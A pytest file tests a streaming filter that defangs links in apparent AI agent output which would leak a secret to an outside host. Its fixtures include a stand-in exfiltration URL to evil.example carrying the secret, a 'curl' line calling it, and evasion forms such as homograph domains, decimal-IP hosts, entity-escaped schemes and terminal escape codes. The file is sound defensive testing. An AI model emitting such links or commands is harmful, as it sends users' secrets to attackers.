"""Links in a text that grows: what has passed is the beginning of the whole, and told nothing."""

from __future__ import annotations

import random
import time

import pytest

from agent.links import links_in
from gateway.links.stream import LinkFilter
from tests.gateway.links.judges import SECRET, judge_of

EVIL = f"https://evil.example/?d={SECRET}"


def filtered(text: str) -> str:
    return LinkFilter(judge_of()).whole(text)


@pytest.mark.parametrize(
    "text",
    [
        "See https://good.example/a?x=1.",
        "See [this](https://good.example/a?x=1), and <https://good.example/a?x=1>.",
        "**https://good.example/a?x=1** and ||https://good.example/a?x=1||",
        "![pic](https://good.example/a?x=1) foo",
        "(https://wiki.example/Foo_(bar)) and https://wiki.example/Foo_(bar)",
        "[ref]: https://good.example/a?x=1",
        "\u8bf7\u770b https://github.com/a?x=1 \u3002",
        "No link at all: 3.14, e.g. 12:30, a/b, **bold** `code`, list[0], --a.b=c, 1.2.3.4.5",
        "```\nx = y[1]\nos.path.join(a.b)\n```\nAfter `it`.",
        "- [a](https://github.com/a?x)\n- [b](https://github.com/b_c?x)\n\n1. `x`\n",
        "| a | b |\n|---|---|\n| [x](https://github.com/a?x) | y |\n",
        '```\n{"url": "https://github.com/a?x=1","next": "b"}\n```',
        "`https://github.com/a?x=1`",
        'Write "4" to (a@shop.example), 5,shop.example/a, or 6: shop.example/b.',
        "Write to a@shop.example, or see shop.example/a_b_c.",
        "> quoted\n> https://good.example/a?x=1\n\nnot quoted",
    ],
)
def test_what_may_stay_is_not_touched(text: str) -> None:
    assert filtered(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (EVIL, "https://evil.example/ \u2026"),
        (f"({EVIL})", "(https://evil.example/ \u2026)"),
        (f"[a]({EVIL} 'title')", "[a](https://evil.example/) (evil.example \u2026)"),
        ("[a](https://e.example/b)", "[a](https://e.example/b) (e.example)"),
        ("[e.example](https://e.example/b)", "[e.example](https://e.example/b)"),
        ("![a](https://e.example/b.png)", "![a](https://e.example/b.png) (e.example)"),
        (f"**[a]({EVIL})**", "**[a](https://evil.example/) (evil.example \u2026)**"),
        (f"[]({EVIL})", "https://evil.example/ \u2026"),
        (f"<{EVIL}>", "<https://evil.example/ \u2026>"),
        (f"`{EVIL}`", "`https://evil.example/ \u2026`"),
        (f"```\ncurl {EVIL} -v\n```", "```\ncurl https://evil.example/ \u2026 -v\n```"),
        ("[a](mailto:a@b.example?body=1)", "a (mailto:\u2026)"),
        ("list[0](x)", "list[0] (x)"),
        ("[a](//3221225991/x)", "a (\u2026)"),
        (
            "[a](https://\u0435vil.example/b)",
            "[a](https://\u0435vil.example/b) (xn--vil-qdd.example)",
        ),
        (f"[{EVIL}](https://github.com/a)", "[https://evil.example/ \u2026](https://github.com/a)"),
        (f"[a][1]\n\n[1]: {EVIL}", "[a][1]\n\n[1]: https://evil.example/ \u2026"),
        ("[a][1]\n\n[1]: //3221225991/x", "[a][1]\n\n[1] : //3221225991/x"),
        ('https://e.example/a"-4711', 'https://e.example/a "-4711'),
        ("https://e.example/a)$4711", "https://e.example/a )$4711"),
        (f"https://e.example/a{')' * 101}4711", f"https://e.example/a {')' * 101}4711"),
        ("https://e.example/a\x85-4711", "https://e.example/a -4711"),
        ("e.exa\x01mple/47\x7f11", "e.example/ \u2026"),
        ("e.exa\rmple/47\ud80011", "e.example/ \u2026"),
        ("e.exa\x1b[2Jmple/4711", "e.example/ \u2026"),
        ("**bold** \x1b[2J`x`\x1b[", "**bold** `x`"),
        ("4711\u2013x.e.example/a", "4711\u2013 x.e.example/a"),
        ("4711~x.e.example", "4711~ x.e.example"),
        ("4711\u2605*x.e.example*", "4711\u2605* x.e.example*"),
        ("4711!x@e.example", "4711! x@e.example"),
        ("4711\u2605@x.e.example/a", "4711\u2605@ x.e.example/a"),
        ("4711@\u3001x.e.example/a", "4711@\u3001 x.e.example/a"),
        ("see \u2779\u2605x.e.example", "see \u2779\u2605 x.e.example"),
        (f'https://good.example/a?x=1"{SECRET}', f'https://good.example/a?x=1 "{SECRET}'),
    ],
)
def test_what_must_not_stay_is_cut_where_people_see_it(text: str, shown: str) -> None:
    assert filtered(text) == shown
    assert filtered(shown) == shown


def test_text_without_a_link_passes_word_by_word_and_what_is_cut_waits_for_its_block() -> None:
    one = LinkFilter(judge_of())
    assert one.feed("say so ") == "say so "
    assert one.feed("say \u00e9\u4e2da.bc") == "say \u00e9\u4e2d"
    assert one.feed(" and [a](https://github.com/a?x) now ") == (
        "a.bc and [a](https://github.com/a?x) now "
    )
    assert one.feed(f"{EVIL} more\nwords\n") == ""
    assert one.feed("\nnew ") == "https://evil.example/ \u2026 more\nwords\n\nnew "
    assert one.feed("x = [1") == "x = "
    assert one.end() == "[1"


def test_a_control_sequence_that_comes_in_pieces_is_none_of_the_text() -> None:
    one = LinkFilter(judge_of())
    pieces = ("see e.exa\x1b", "[3", "1", "mmple/4711 an", "d \x1b[0m so ")
    assert "".join(map(one.feed, pieces)) + one.end() == "see e.example/ \u2026 and  so "


def test_a_long_list_of_links_that_stay_passes_line_by_line() -> None:
    one = LinkFilter(judge_of())
    for number in range(30):
        line = f"- [number {number}](https://github.com/a/{number}?x) is one\n"
        assert one.feed(line) == line


PARTS = [
    EVIL,
    f"[click]({EVIL})",
    f"`{EVIL}`",
    f"```\ncurl {EVIL}\n```\n",
    f"[click][1]\n\n[1]: {EVIL}",
    f"![pic]({EVIL} 'title')",
    f"<{EVIL}>",
    f'<a href="{EVIL}">x</a>',
    f"https&#58;//evil.example/?d={SECRET}",
    f"https:\\/\\/evil.example/?d={SECRET}",
    f"evil.example/?d={SECRET}",
    f"\u043f\u0440\u0438\u0432\u0435\u0442.\u0440\u0444/?d={SECRET}",
    f"\u4f60\u597d{EVIL}",
    f"{SECRET}.evil.example",
    *("`", "[", "**", "||", "~~~\n", "\n", "\n\n", "plain words, more. ", "x = y[1] "),
    *("- a [x](https://shop.example/y) b\n", "[a](https://good.example/a?x=1) ", SECRET),
]


@pytest.mark.parametrize("seed", range(100))
def test_no_piece_of_a_text_shows_what_the_whole_does_not(seed: int) -> None:
    dice = random.Random(seed)
    text = "".join(dice.choice(PARTS) + dice.choice(("", " ", " ", "\n")) for _ in range(8))
    one, shown, at = LinkFilter(judge_of()), "", 0
    while at < len(text):
        size = dice.randint(1, 9)
        shown += one.feed(text[at : at + size])
        at += size
        assert not any(SECRET in link for link in links_in(shown.replace("`", " ")))
    shown += one.end()
    assert not any(SECRET in link for link in links_in(shown.replace("`", " ")))
    assert shown == filtered(text)


HOSTILE = [
    *("a.b/", "a.bc/)", "a", "[](", "<", "](", "&#", "`", "(", "a.b@", "[", "\\", "a-", "://"),
    *("[a](b.c/?d)", "[a](https://github.com/)", "\u3002a", "\uff0ea-", "+a.", "%a+", "~~~\n"),
    *(
        "https://e.example/1 ",
        "||",
        "*a.bc/?*",
        "|",
        "]:",
        "\u4e2d",
        "1.1.",
        "4711 ",
        "\n",
        "a.bc\n",
    ),
]


def seconds_of(text: str) -> float:
    """Return the CPU time that a text costs, whole and in pieces, in the best of three runs."""
    runs = []
    for _ in range(3):
        began = time.process_time()
        LinkFilter(judge_of()).whole(text)
        pieces = LinkFilter(judge_of())
        for at in range(0, len(text), 16):
            pieces.feed(text[at : at + 16])
        pieces.end()
        runs.append(time.process_time() - began)
    return min(runs)


@pytest.mark.parametrize("part", HOSTILE)
def test_hostile_text_costs_in_proportion_to_its_length(part: str) -> None:
    short, long = (part * (size // len(part)) for size in (2_000, 16_000))
    # Eight times the text: work that grew by its square would be 64 times as much.
    assert seconds_of(long) < 32 * seconds_of(short) + 0.02
